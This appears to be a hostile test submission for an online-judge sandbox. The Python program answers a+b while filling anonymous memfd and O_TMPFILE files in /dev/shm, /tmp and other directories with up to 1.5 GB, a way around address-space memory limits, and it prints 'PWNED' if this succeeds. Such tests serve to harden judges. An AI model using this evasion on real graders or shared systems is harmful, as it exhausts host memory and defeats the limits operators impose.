# id=H22 | tries=keeps memory in files without a name, which no limit of the address space counts: up to 1.5 GB | verdicts=AC,RE,MLE,TLE | invariants=no_pwn,judge_alive,machine_ok
import os, signal

a, b = map(int, input().split())
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
total, chunk, kept = 0, b"\1" * (1 << 20), []
makers = [lambda: os.memfd_create("x")]
makers += [lambda d=d: os.open(d, os.O_TMPFILE | os.O_RDWR, 0o600) for d in ("/dev/shm", "/tmp", "/run", ".")]
for make in makers:
    for _ in range(96):
        try:
            fd = make()
        except OSError:
            break
        kept.append(fd)
        try:
            for _ in range(64):
                if total < 1500:
                    total += os.write(fd, chunk) >> 20
        except OSError:
            pass
print("PWNED" if total > 512 else a + b)
